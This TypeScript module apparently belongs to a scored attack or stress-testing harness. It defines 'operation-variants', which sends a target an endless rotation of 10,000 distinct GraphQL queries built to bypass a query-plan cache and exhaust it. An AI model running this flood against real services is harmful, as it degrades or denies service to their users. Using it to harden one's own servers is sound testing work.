import type { Attack } from './attack.ts';
import { sendPost } from './send-post.ts';

const VARIANTS = 10_000;
const CONDITIONS = 5;
/** Fields of a book that documents pick from. */
const FIELDS = ['id', 'title', 'price', 'version', 'updatedAt'];
/** Choices of at least one field. */
const CHOICES = 2 ** FIELDS.length - 1;

/** 10,000 variants: documents with each combination of five conditions, in turn and without end. */
export const operationVariants: Attack = {
  name: 'operation-variants',
  point: 24,
  async run(target, signal) {
    for (let index = 0; !signal.aborted; index = (index + 1) % VARIANTS) {
      const bits = index % 2 ** CONDITIONS;
      const query = documentOf(Math.floor(index / 2 ** CONDITIONS));
      const variables = Object.fromEntries(Array.from({ length: CONDITIONS }, (_, place) => [`c${place}`, ((bits >> place) & 1) === 1]));
      await sendPost(target, JSON.stringify({ query, variables }), { signal });
    }
  },
};

/**
 * The cache of plans ignores aliases and names of operations, so each document selects other fields: the first two books together have
 * 961 choices, of which 313 are used.
 */
function documentOf(index: number): string {
  const conditions = Array.from({ length: CONDITIONS }, (_, place) => place);
  const declared = conditions.map((place) => `$c${place}: Boolean!`).join(' ');
  const choices = [index % CHOICES, Math.floor(index / CHOICES) % CHOICES];
  const parts = conditions.map((place) => {
    const fields = choiceOf(choices[place] ?? CHOICES - 1).join(' ');
    return `b${place}: book(id: ${place + 1}) @include(if: $c${place}) { ${fields} }`;
  });
  return `query Q${index} (${declared}) { ${parts.join(' ')} }`;
}

function choiceOf(number: number): readonly string[] {
  return FIELDS.filter((_field, place) => (((number + 1) >> place) & 1) === 1);
}
